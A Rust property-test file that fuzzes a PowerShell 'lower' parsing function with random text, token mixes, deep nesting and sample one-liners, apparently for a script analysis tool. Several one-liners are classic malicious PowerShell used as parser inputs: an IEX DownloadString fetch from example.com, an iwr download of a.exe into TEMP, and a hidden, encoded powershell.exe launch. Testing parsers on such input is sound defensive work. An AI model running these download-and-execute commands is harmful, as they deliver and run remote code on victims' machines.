use proptest::prelude::*;

use super::lower;

proptest! {
    #[test]
    fn any_text_is_read(text in "\\PC*") {
        lower(&text);
    }

    #[test]
    fn any_mix_of_tokens_is_read(tokens in prop::collection::vec(
        prop::sample::select(vec![
            "$x", "=", "(", ")", "{", "}", "[char]", "'", "\"", "@'\n", "\n'@", "@{", "@(", "|", "%", "-join", "-f",
            "-bxor", ",", ";", "\n", "if", "foreach", "in", "function", "f", "param", "iex", "-Uri", "&", ".", "::",
            ".Replace(", "$(", "${", "`", "é", "#", "<#", "#>", "1", "0x41", "+", "++", "try", "catch", "switch", "do",
            "while", "return", "$env:X", "[", "]", "New-Object", "a.exe", ">", "2>&1", "!", "-not", "..",
        ]), 0..60), joined in any::<bool>()) {
        lower(&tokens.join(if joined { "" } else { " " }));
    }
}

#[test]
fn deep_nesting_ends() {
    for open in [
        "$(", "(", "{ ", "if (", "@(", "@{a=", "[", "\"$(", "-not ", "a | ", "& (", "$x = ",
    ] {
        lower(&open.repeat(30_000));
    }
}

#[test]
fn one_liners_are_whole() {
    for text in [
        "function Foo { param($q) return $q + 1 }; Foo 2",
        "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')",
        "$x = -join ([char[]](104,105)); & $x",
        "1..5 | % { $_ -bxor 3 } | Out-Null",
        "$y = \"{1}{0}\" -f 'b','a'; iwr -Uri $y -OutFile \"$env:TEMP\\a.exe\" -UseBasicParsing",
        "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))",
        "switch ($x) { 1 { a } \"b\" { c } default { d } }",
        "do { a } until ($x -eq 1); $a,$b = 1,2; $h = @{ a = 1; b = 'c' }",
        "powershell.exe -nop -w hidden -enc aGk= > out.txt 2>&1",
    ] {
        assert_eq!(lower(text).errors, [], "{text}");
    }
}
